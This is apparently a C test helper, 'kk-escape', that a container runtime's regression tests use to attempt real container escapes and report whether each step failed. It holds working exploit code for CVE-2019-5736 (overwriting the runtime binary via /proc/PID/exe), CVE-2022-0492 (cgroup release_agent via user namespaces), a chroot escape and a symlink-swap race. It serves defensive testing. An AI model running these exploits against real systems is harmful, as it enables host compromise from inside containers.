/* SPDX-License-Identifier: GPL-2.0-or-later */
/* kk-escape: the attacker side of the escape regression tests (tests/integration/runtime/
 * escape-*.sh). Each subcommand performs a real attack and reports what happened, one
 * "key=value" line per fact, so the test can assert that every step failed:
 *
 *   kk-escape landlock-abi
 *       prints the kernel's Landlock ABI version (0: none).
 *   kk-escape exe-attack MILLIS
 *       CVE-2019-5736: for MILLIS ms, scan /proc for processes whose executable is not a
 *       file of this container (the runtime while it sets up an exec) and try to open
 *       /proc/PID/exe for writing, and via O_PATH + reopening /proc/self/fd/N for writing
 *       (the reopen is retried until the end, for the moment the runtime has exited). A
 *       successful open appends "KK-ESCAPE" to the file (the binary still runs, its hash
 *       changes). Prints held=… for each foreign executable it got an O_PATH fd of, then
 *       attempts=, seen=, held=, opened= (opens for writing that succeeded), written=
 *       (writes that succeeded: a sealed copy refuses them), last_errno=. Exit 1 if written.
 *   kk-escape release-agent
 *       CVE-2022-0492: unshare(USER|NS|CGROUP) mapping root, mount a cgroup v1 hierarchy
 *       (rdma, then memory), write its release_agent; also mount one without unsharing and
 *       write every release_agent visible under /sys/fs/cgroup. Prints step=… errno=…
 *       lines. Exit 1 if a release_agent was written.
 *   kk-escape fds PID|self
 *       prints "N -> target" for every open fd of PID (of itself for "self", without the
 *       directory fd it reads /proc/self/fd through).
 *   kk-escape chroot-escape DIR
 *       the classic chroot(2) escape (needs CAP_SYS_CHROOT): chroot into a subdirectory
 *       while keeping the cwd outside it, walk up with "..", chroot("."); then prints
 *       entries=N for DIR in the root it reached (e.g. /proc: 0 when no procfs is mounted
 *       there) and escaped=1 if the reached root differs from the one it started in.
 *   kk-escape swap PATH TARGET
 *       CVE-2021-30465 / CVE-2025-52565 (host side): make PATH a directory and PATH.kk-swap
 *       a symlink to TARGET, then exchange them (renameat2 RENAME_EXCHANGE) in a loop until
 *       SIGTERM. Prints swaps=N at the end.
 *
 * Static, no libc from the image needed. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static const char *errname(int e)
{
	switch (e) {
	case 0:
		return "0";
	case EPERM:
		return "EPERM";
	case EACCES:
		return "EACCES";
	case ENOENT:
		return "ENOENT";
	case ETXTBSY:
		return "ETXTBSY";
	case EROFS:
		return "EROFS";
	case EINVAL:
		return "EINVAL";
	case EBUSY:
		return "EBUSY";
	case ENOSYS:
		return "ENOSYS";
	case ESRCH:
		return "ESRCH";
	case ENODEV:
		return "ENODEV";
	case ENOTDIR:
		return "ENOTDIR";
	case EEXIST:
		return "EEXIST";
	case ELOOP:
		return "ELOOP";
	case EXDEV:
		return "EXDEV";
	default: {
		static char buf[32];
		snprintf(buf, sizeof(buf), "errno%d", e);
		return buf;
	}
	}
}

static long now_ms(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000L + ts.tv_nsec / 1000000L;
}

static int landlock_abi(void)
{
#ifdef SYS_landlock_create_ruleset
	long v = syscall(SYS_landlock_create_ruleset, NULL, 0, 1U);
	printf("%ld\n", v < 0 ? 0L : v);
#else
	printf("0\n");
#endif
	return 0;
}

/* ---- exe-attack ------------------------------------------------------------------------ */

#define MAX_HELD 256

static int held[MAX_HELD];
static int n_held;
static long attempts, opened, written, seen;
static int last_errno;

static int try_write(int fd, const char *how)
{
	static const char marker[] = "\nKK-ESCAPE\n";
	ssize_t w = write(fd, marker, sizeof(marker) - 1);
	struct stat st;

	fstat(fd, &st);
	printf("OPENED-FOR-WRITE via=%s ino=%lu write=%s\n", how, (unsigned long)st.st_ino,
	       w < 0 ? errname(errno) : "ok");
	fflush(stdout);
	opened++;
	if (w > 0)
		written++;
	return 0;
}

/* True if the file behind fd is reachable by its own name in our root: then it is a file of
 * this container (busybox, the attacker itself), not the host's runtime binary. */
static bool same_file(const struct stat *a, const char *path)
{
	struct stat b;
	return stat(path, &b) == 0 && a->st_dev == b.st_dev && a->st_ino == b.st_ino;
}

static bool is_own_file(int fd, const char *link_target)
{
	struct stat a;
	if (fstat(fd, &a) < 0)
		return false;
	if (link_target && link_target[0] == '/' && same_file(&a, link_target))
		return true;
	/* The link is unreadable for a moment while a process of ours execs: then compare
	 * with the executables a container process here can be running. */
	return same_file(&a, "/proc/self/exe") || same_file(&a, "/bin/busybox") || same_file(&a, "/bin/sh");
}

static void attack_pid(const char *pid)
{
	char path[64], target[4096];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	n = readlink(path, target, sizeof(target) - 1);
	if (n >= 0)
		target[n] = 0;
	else if (errno == ENOENT)
		return; /* gone, or a kernel thread */

	/* O_PATH first: it must not be a file of our own image. */
	attempts++;
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0) {
		last_errno = errno;
		if (n < 0)
			seen++; /* exists but its exe is hidden: a non-dumpable process */
		return;
	}
	if (is_own_file(fd, n >= 0 ? target : NULL)) {
		close(fd);
		return;
	}
	seen++;
	/* A foreign executable: try it directly, then keep the O_PATH fd for reopening. */
	attempts++;
	int wfd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
	if (wfd >= 0) {
		try_write(wfd, "proc-pid-exe");
		close(wfd);
	} else {
		last_errno = errno;
	}
	if (n_held < MAX_HELD) {
		struct stat st;
		if (fstat(fd, &st) == 0)
			printf("held pid=%s exe=%s dev=%lu ino=%lu size=%lld\n", pid, n >= 0 ? target : "?",
			       (unsigned long)st.st_dev, (unsigned long)st.st_ino, (long long)st.st_size);
		held[n_held++] = fd;
	} else {
		close(fd);
	}
}

static void reopen_held(void)
{
	for (int i = 0; i < n_held; i++) {
		char path[64];
		if (held[i] < 0)
			continue;
		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
		attempts++;
		int wfd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (wfd >= 0) {
			try_write(wfd, "o_path-reopen");
			close(wfd);
			close(held[i]);
			held[i] = -1;
		} else {
			last_errno = errno;
		}
	}
}

static int exe_attack(long millis)
{
	long end = now_ms() + millis;
	char self[32];

	snprintf(self, sizeof(self), "%d", (int)getpid());
	while (now_ms() < end) {
		DIR *d = opendir("/proc");
		struct dirent *de;
		if (!d) {
			perror("kk-escape: /proc");
			return 2;
		}
		while ((de = readdir(d))) {
			if (de->d_name[0] < '0' || de->d_name[0] > '9' || strcmp(de->d_name, self) == 0)
				continue;
			attack_pid(de->d_name);
		}
		closedir(d);
		reopen_held();
	}
	printf("attempts=%ld\nseen=%ld\nheld=%d\nopened=%ld\nwritten=%ld\nlast_errno=%s\n", attempts, seen, n_held,
	       opened, written, errname(last_errno));
	return written ? 1 : 0;
}

/* ---- release-agent --------------------------------------------------------------------- */

static int write_file(const char *path, const char *s)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return errno;
	ssize_t w = write(fd, s, strlen(s));
	int e = w < 0 ? errno : 0;
	close(fd);
	return e;
}

static void step(const char *name, int e)
{
	printf("step=%s errno=%s\n", name, errname(e));
	fflush(stdout);
}

static int agents_written;

static void mount_and_write(const char *dir, const char *tag)
{
	static const char *const ctrls[] = {"rdma", "memory", "none,name=kk-escape", NULL};
	char name[128], agent[4096];

	mkdir(dir, 0755);
	for (int i = 0; ctrls[i]; i++) {
		int e = mount("cgroup", dir, "cgroup", 0, ctrls[i]) < 0 ? errno : 0;
		snprintf(name, sizeof(name), "%s-mount-cgroup-%s", tag, ctrls[i]);
		step(name, e);
		if (e)
			continue;
		snprintf(agent, sizeof(agent), "%s/release_agent", dir);
		e = write_file(agent, "/kk-escape-release-agent");
		snprintf(name, sizeof(name), "%s-write-release_agent-%s", tag, ctrls[i]);
		step(name, e);
		if (!e)
			agents_written++;
		snprintf(agent, sizeof(agent), "%s/notify_on_release", dir);
		snprintf(name, sizeof(name), "%s-write-notify_on_release-%s", tag, ctrls[i]);
		step(name, write_file(agent, "1"));
		umount2(dir, MNT_DETACH);
	}
}

static int release_agent(void)
{
	char buf[64];
	uid_t uid = getuid();
	gid_t gid = getgid();
	pid_t pid;
	int st = 0;

	/* Without a new namespace, with the container's own capabilities. */
	mount_and_write("/tmp/kk-escape-cg", "direct");
	DIR *d = opendir("/sys/fs/cgroup");
	if (d) {
		struct dirent *de;
		while ((de = readdir(d))) {
			char p[4096];
			if (de->d_name[0] == '.')
				continue;
			snprintf(p, sizeof(p), "/sys/fs/cgroup/%s/release_agent", de->d_name);
			if (access(p, F_OK) != 0)
				continue;
			int e = write_file(p, "/kk-escape-release-agent");
			char name[320];
			snprintf(name, sizeof(name), "existing-%s", de->d_name);
			step(name, e);
			if (!e)
				agents_written++;
		}
		closedir(d);
	}

	/* unshare -Urmc: a user namespace gives CAP_SYS_ADMIN over new mount and cgroup
	 * namespaces, which is what CVE-2022-0492 used. In a child, so we stay as we were. */
	fflush(stdout);
	pid = fork();
	if (pid == 0) {
		int e = unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0 ? errno : 0;
		step("unshare-user-mount-cgroup", e);
		if (e) {
			/* Maybe only the user namespace is refused: try the others alone. */
			e = unshare(CLONE_NEWNS | CLONE_NEWCGROUP) < 0 ? errno : 0;
			step("unshare-mount-cgroup", e);
			if (e)
				_exit(agents_written ? 1 : 0);
		} else {
			snprintf(buf, sizeof(buf), "0 %u 1", (unsigned)uid);
			step("uid_map", write_file("/proc/self/uid_map", buf));
			step("setgroups", write_file("/proc/self/setgroups", "deny"));
			snprintf(buf, sizeof(buf), "0 %u 1", (unsigned)gid);
			step("gid_map", write_file("/proc/self/gid_map", buf));
		}
		if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
			step("make-private", errno);
		mount_and_write("/tmp/kk-escape-cg-userns", "userns");
		fflush(stdout);
		_exit(agents_written ? 1 : 0);
	}
	if (pid < 0) {
		step("fork", errno);
	} else {
		while (waitpid(pid, &st, 0) < 0 && errno == EINTR)
			;
		if (WIFEXITED(st) && WEXITSTATUS(st) == 1)
			agents_written++;
	}
	printf("written=%d\n", agents_written);
	return agents_written ? 1 : 0;
}

/* ---- fds ------------------------------------------------------------------------------ */

static int fds(const char *pid)
{
	char dir[64], path[512], target[4096];
	DIR *d;
	struct dirent *de;

	snprintf(dir, sizeof(dir), "/proc/%s/fd", pid);
	d = opendir(dir);
	if (!d) {
		perror("kk-escape: opendir");
		return 2;
	}
	while ((de = readdir(d))) {
		if (de->d_name[0] == '.')
			continue;
		if (strcmp(pid, "self") == 0 && atoi(de->d_name) == dirfd(d))
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
		ssize_t n = readlink(path, target, sizeof(target) - 1);
		target[n < 0 ? 0 : n] = 0;
		printf("%s -> %s\n", de->d_name, n < 0 ? errname(errno) : target);
	}
	closedir(d);
	return 0;
}

/* ---- swap ------------------------------------------------------------------------------ */

static volatile sig_atomic_t stop;

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

static int swap(const char *path, const char *target)
{
	char other[4096];
	long n = 0;

	snprintf(other, sizeof(other), "%s.kk-swap", path);
	signal(SIGTERM, on_term);
	signal(SIGINT, on_term);
	if (mkdir(path, 0755) < 0 && errno != EEXIST) {
		perror("kk-escape: mkdir");
		return 2;
	}
	unlink(other);
	if (symlink(target, other) < 0) {
		perror("kk-escape: symlink");
		return 2;
	}
	while (!stop) {
		if (syscall(SYS_renameat2, AT_FDCWD, path, AT_FDCWD, other, RENAME_EXCHANGE) == 0)
			n++;
	}
	printf("swaps=%ld\n", n);
	return 0;
}

static int chroot_escape(const char *dir)
{
	struct stat before, after;
	if (stat("/", &before) < 0 || (mkdir("/kk-chroot-escape", 0700) < 0 && errno != EEXIST) || chdir("/") < 0 ||
	    chroot("/kk-chroot-escape") < 0) {
		printf("step=chroot errno=%d\n", errno);
		return 2;
	}
	for (int i = 0; i < 256; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0) {
		printf("step=chroot-dot errno=%d\n", errno);
		return 2;
	}
	stat("/", &after);
	long n = 0;
	DIR *d = opendir(dir);
	for (struct dirent *e; d && (e = readdir(d));)
		if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
			n++;
	if (d)
		closedir(d);
	printf("escaped=%d\nentries=%ld\n", before.st_dev != after.st_dev || before.st_ino != after.st_ino, n);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc >= 2 && strcmp(argv[1], "landlock-abi") == 0)
		return landlock_abi();
	if (argc >= 3 && strcmp(argv[1], "exe-attack") == 0)
		return exe_attack(strtol(argv[2], NULL, 10));
	if (argc >= 2 && strcmp(argv[1], "release-agent") == 0)
		return release_agent();
	if (argc >= 3 && strcmp(argv[1], "fds") == 0)
		return fds(argv[2]);
	if (argc >= 4 && strcmp(argv[1], "swap") == 0)
		return swap(argv[2], argv[3]);
	if (argc >= 3 && strcmp(argv[1], "chroot-escape") == 0)
		return chroot_escape(argv[2]);
	fprintf(stderr, "usage: kk-escape landlock-abi | exe-attack MILLIS | release-agent | fds PID|self | swap PATH "
			"TARGET | chroot-escape DIR\n");
	return 2;
}
